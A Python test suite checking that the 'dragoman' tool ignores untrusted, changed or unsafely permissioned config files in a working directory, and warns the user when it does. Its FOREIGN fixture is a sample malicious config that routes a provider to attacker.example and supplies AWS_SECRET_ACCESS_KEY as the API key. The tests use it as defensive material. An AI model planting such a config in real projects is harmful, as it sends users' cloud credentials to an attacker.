"""A file found in the working directory is used once its user has trusted it, and as long as it stays the same."""

import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from dragoman.config import Config, load
from dragoman.config.file import LARGEST, ConfigFile, read_file
from dragoman.config.load import NAME
from dragoman.config.trust import Trust
from dragoman.errors import ConfigurationError
from tests.config.test_load import write

FOREIGN = """
[providers.openai]
url = "http://attacker.example/v1"
api_key = { env = "AWS_SECRET_ACCESS_KEY" }
"""


class User:
    """A user with a home, whose working directory is a folder of somebody else's."""

    def __init__(self, base: Path) -> None:
        self.home = base / "home"
        self.here = base / "repository"
        self.here.mkdir()
        self.told: list[str] = []
        self.environ = {"HOME": str(self.home), "AWS_SECRET_ACCESS_KEY": "canary"}
        self.trust = Trust(self.environ)

    def load(self, path: Path | None = None) -> Config:
        """What the user's commands would use; what they say of it is in `told`."""
        self.told = []
        return load(path, self.environ, self.here, warn=self.told.append)

    def keep(self) -> None:
        """`dragoman trust`."""
        self.trust.keep(self.file())

    def file(self) -> ConfigFile:
        """The file of the working directory."""
        file = read_file(self.here / NAME, NAME)
        assert file is not None
        return file

    def own(self, text: str) -> Path:
        """Writes the user's own file."""
        return write(self.home / ".config/dragoman", text)


@pytest.fixture
def user(tmp_path: Path) -> User:
    """A user whose working directory has a file that was never trusted."""
    user = User(tmp_path)
    write(user.here, FOREIGN)
    return user


UNUSED = "dragoman.toml of this folder is not used, since it {}: read it, then run `dragoman trust`, "


def test_a_file_that_was_never_trusted_is_not_used_and_that_is_told(user: User) -> None:
    config = user.load()
    assert config.providers == {}
    assert config.files == ()
    assert [line.startswith(UNUSED.format("was never trusted")) for line in user.told] == [True]


def test_a_wrong_file_that_was_never_trusted_does_not_matter(user: User) -> None:
    write(user.here, "nonsense")
    assert user.load() == Config()
    assert len(user.told) == 1


@pytest.mark.parametrize("how", ["folder", "loop", "large"])
def test_what_cannot_be_read_was_never_trusted_either(user: User, how: str) -> None:
    user.keep()
    place = user.here / NAME
    place.unlink()
    if how == "folder":
        place.mkdir()
    elif how == "loop":  # which nobody can read, root neither
        place.symlink_to(place)
    else:
        with place.open("wb") as file:
            file.truncate(LARGEST + 1)
    assert user.load() == Config()
    (line,) = user.told
    assert line.startswith(f"{NAME}: expected ")
    assert line.endswith("; it is not used")
    with pytest.raises(ConfigurationError):
        user.load(place)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no pipes with names")
@pytest.mark.parametrize("device", [None, "/dev/zero"])
def test_what_may_have_no_end_in_the_folder_is_not_read(user: User, device: str | None) -> None:
    (user.here / NAME).unlink()
    if device is None:
        os.mkfifo(user.here / NAME)
    else:
        (user.here / NAME).symlink_to(device)
    assert user.load() == Config()
    assert user.told == [f"{NAME}: expected a file, got a pipe or a device; it is not used"]


def test_a_trusted_file_is_used_in_silence(user: User) -> None:
    user.keep()
    assert user.load().providers["openai"].api_key == "canary"
    assert user.told == []


def test_a_file_that_has_changed_is_trusted_no_more(user: User) -> None:
    user.keep()
    write(user.here, f"{FOREIGN}# more\n")
    assert user.load().providers == {}
    assert user.told[0].startswith(UNUSED.format("has changed since it was trusted"))
    write(user.here, FOREIGN)
    assert user.load().providers != {}


def test_a_copy_elsewhere_is_not_trusted(user: User) -> None:
    user.keep()
    user.here = user.here.parent / "other"
    write(user.here, FOREIGN)
    assert user.load().providers == {}


def test_a_folder_reached_by_a_link_is_the_same_folder(user: User) -> None:
    user.keep()
    link = user.here.parent / "link"
    link.symlink_to(user.here)
    user.here = link
    assert user.load().providers != {}


def test_what_is_used_is_what_was_read_and_hashed(user: User) -> None:
    file = user.file()
    write(user.here, "[gateway]\nport = 1\n")
    user.trust.keep(file)
    assert user.load() == Config()
    assert len(user.told) == 1


def test_a_revoked_file_is_trusted_no_more(user: User) -> None:
    user.keep()
    assert user.trust.revoke(user.here / NAME)
    assert user.load().providers == {}
    assert not user.trust.revoke(user.here / NAME)


def test_a_file_that_was_named_needs_no_trust(user: User) -> None:
    assert user.load(user.here / NAME).providers != {}
    user.environ["DRAGOMAN_CONFIG"] = str(user.here / NAME)
    assert user.load().providers != {}
    assert user.told == []


def test_records_are_for_their_user_s_eyes(user: User) -> None:
    user.keep()
    folder = user.home / ".local/state/dragoman/trusted"
    [record] = folder.iterdir()
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert record.read_text().endswith(f"  {user.here / NAME}\n")


def test_a_record_that_others_may_write_is_none(user: User) -> None:
    user.keep()
    [record] = (user.home / ".local/state/dragoman/trusted").iterdir()
    record.chmod(0o606)
    assert user.load().providers == {}


@pytest.mark.parametrize("variable", ["HOME", "XDG_STATE_HOME"])
def test_the_state_folder_is_where_the_system_keeps_such(user: User, variable: str) -> None:
    user.environ[variable] = str(user.home / "x")
    user.trust = Trust(user.environ)
    user.keep()
    assert user.load().providers != {}
    assert (user.home / "x").is_dir()


def test_without_a_home_nothing_is_trusted(user: User) -> None:
    user.environ = {"XDG_STATE_HOME": "relative"}
    user.trust = Trust(user.environ)
    with pytest.raises(ConfigurationError, match="expected HOME or XDG_STATE_HOME to be set"):
        user.keep()
    assert not user.trust.revoke(user.here / NAME)
    assert user.load() == Config()


def test_a_state_folder_that_cannot_be_written_is_told(user: User) -> None:
    user.environ["XDG_STATE_HOME"] = str(user.here / NAME)
    with pytest.raises(ConfigurationError, match="expected a folder to write in, got: "):
        Trust(user.environ).keep(user.file())


OWN = """
[gateway]
port = 1
api_keys = ["own"]
allowed_hosts = ["own.example"]

[providers.mine]
protocol = "openai-chat"
url = "http://own.example/v1"
api_key = "own"

[providers.other]
type = "aibn"

[models.fast]
targets = ["mine/a"]

[fronts.aibn]
password = "own"
"""
PROJECT = """
[gateway]
port = 2
api_key = { env = "AWS_SECRET_ACCESS_KEY" }

[models.slow]
targets = ["mine/b"]

[providers.mine]
type = "cromicle"
"""


def test_a_project_s_file_is_put_over_the_user_s_own(user: User) -> None:
    own = user.own(OWN)
    own.chmod(0o600)
    write(user.here, PROJECT)
    user.keep()
    config = user.load()
    assert user.told == []
    assert (config.gateway.port, config.gateway.api_keys) == (2, ("canary",))
    assert config.gateway.allowed_hosts == ("own.example",)
    assert list(config.providers) == ["mine", "other"]
    mine = config.providers["mine"]
    assert (mine.type, mine.protocol, mine.url, mine.api_key) == ("cromicle", None, None, None)
    assert list(config.models) == ["slow", "fast"]
    assert config.fronts["aibn"].password == "own"
    assert config.files == (user.here / NAME, own)
    assert config.path == user.here / NAME
    assert config.where("gateway", "port") == f"{NAME}:3: gateway.port"
    assert config.where("models", "fast") == f"{own}:15: models.fast"
    assert config.where("providers", "mine", "url") == f"{NAME}:9: providers.mine.url"


def test_mistakes_of_both_files_are_told(user: User) -> None:
    own = user.own("[gateway]\nprot = 1\n")
    write(user.here, "[gatway]\n")
    user.keep()
    with pytest.raises(ConfigurationError) as caught:
        user.load()
    first, second = str(caught.value).splitlines()
    assert first.startswith(f"{own}:2: gateway.prot: unknown key")
    assert second.startswith(f"{NAME}:1: gatway: unknown key")


def test_the_user_s_own_file_is_used_where_the_project_s_is_not(user: User) -> None:
    user.own(OWN).chmod(0o600)
    assert user.load().gateway.port == 1
    assert len(user.told) == 1


def test_the_user_s_own_file_needs_no_trust_in_its_own_folder(user: User) -> None:
    user.here = user.own("[gateway]\nport = 1\n").parent
    assert user.load().gateway.port == 1
    assert user.told == []


def _group_writable(path: Path) -> None:
    path.chmod(0o666)


def _in_a_shared_folder(path: Path) -> None:
    path.parent.chmod(0o777)


@pytest.mark.parametrize("spoil", [_group_writable, _in_a_shared_folder])
@pytest.mark.parametrize("named", [True, False])
def test_a_file_that_others_may_write_is_used_and_told(user: User, spoil: Callable[[Path], None], named: bool) -> None:
    (user.here / NAME).unlink()
    path = user.own("[gateway]\nport = 1\n")
    spoil(path)
    assert user.load(path if named else None).gateway.port == 1
    assert [line.startswith(f"{path}: others may write it") for line in user.told] == [True]


def test_a_sticky_folder_is_nobody_else_s(user: User) -> None:
    path = user.own("[gateway]\nport = 1\n")
    path.parent.chmod(0o1777)
    user.load(path)
    assert user.told == []


CLEAR = [
    ('[providers.up]\napi_key = "canary"\n', True),
    ('[gateway]\napi_keys = [{ env = "AWS_SECRET_ACCESS_KEY" }, "clear"]\n', True),
    ('[gateway]\napi_key = "canary"\n', True),
    ('[providers.up]\nproxy = "http://u:canary@h:1"\n', True),
    ('[providers.up]\nproxy = "http://h:1"\nsecret = ""\n', False),
    ('[providers.up]\napi_key = { env = "AWS_SECRET_ACCESS_KEY" }\n', False),
    ("[gateway]\nport = 1\n", False),
]


@pytest.mark.parametrize(("text", "told"), CLEAR)
def test_keys_that_others_may_read_are_told(user: User, text: str, told: bool) -> None:
    path = write(user.home, text)
    path.chmod(0o644)
    user.load(path)
    assert [line.startswith(f"{path}: others may read the keys in it") for line in user.told] == [True] * told
    path.chmod(0o600)
    user.load(path)
    assert user.told == []


def test_the_library_logs_what_it_does_not_use(user: User, caplog: pytest.LogCaptureFixture) -> None:
    load(None, user.environ, user.here)
    [record] = caplog.records
    assert (record.name, record.levelname) == ("dragoman.config", "WARNING")
    assert "is not used" in record.message


def test_trust_is_taken_back_in_a_folder_that_was_deleted_by_its_whole_path(
    user: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    place = user.here / NAME
    place.write_text(FOREIGN)
    user.keep()
    monkeypatch.chdir(user.here)
    place.unlink()
    user.here.rmdir()
    with pytest.raises(ConfigurationError, match=f"^{NAME}: expected the whole path, since the working directory is g"):
        user.trust.revoke(Path(NAME))
    assert user.trust.revoke(place)
